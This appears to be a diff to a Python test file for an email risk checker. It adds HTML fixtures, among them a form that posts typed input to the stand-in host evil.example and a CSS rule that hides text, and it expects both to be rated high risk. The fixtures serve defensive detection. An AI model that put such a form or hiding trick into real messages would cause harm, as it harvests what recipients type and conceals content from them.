@@ -81,6 +81,8 @@ def test_every_field_is_in_the_digest() -> None:
 
 
 FACTS = Facts(account="me@example.com", to="bob@example.com", subject="Hello", body="Hi", known=True)
+FORM = "<form action='https://evil.example/x'><input name=a></form>"
+CONDITION = "<style>@supports (x: y) { p { display: none } }</style><p>Hi</p>"
 
 
 @requirement("cards:risk")
@@ -95,6 +97,9 @@ FACTS = Facts(account="me@example.com", to="bob@example.com", subject="Hello", b
         ({"body": "x" * (LONG + 1)}, "medium", ["20,001 characters"]),
         ({"warnings": ("a link shows a.org but leads to b.org.",)}, "medium", ["answers: a link shows a.org but"]),
         ({"subject": "Your invoice", "body": "password and IBAN"}, "medium", ["secrets: iban, invoice, password."]),
+        ({"body": "<html><p>Hi</p></html>"}, "medium", ["It leaves as HTML: a reader sees 2 characters"]),
+        ({"body": f"<html>{FORM}</html>"}, "high", ["A form sends what is typed into it to evil.example"]),
+        ({"body": f"<html>{CONDITION}</html>"}, "high", ["may hide text by what was not understood: the rule p"]),
         ({"body": "DE89 3704 0044 0532 0130 00"}, "medium", ["money or secrets: de89"]),
         ({"body": "Please wire it"}, "medium", ["wire"]),
         ({"body": "wireless and passwordless"}, "low", []),
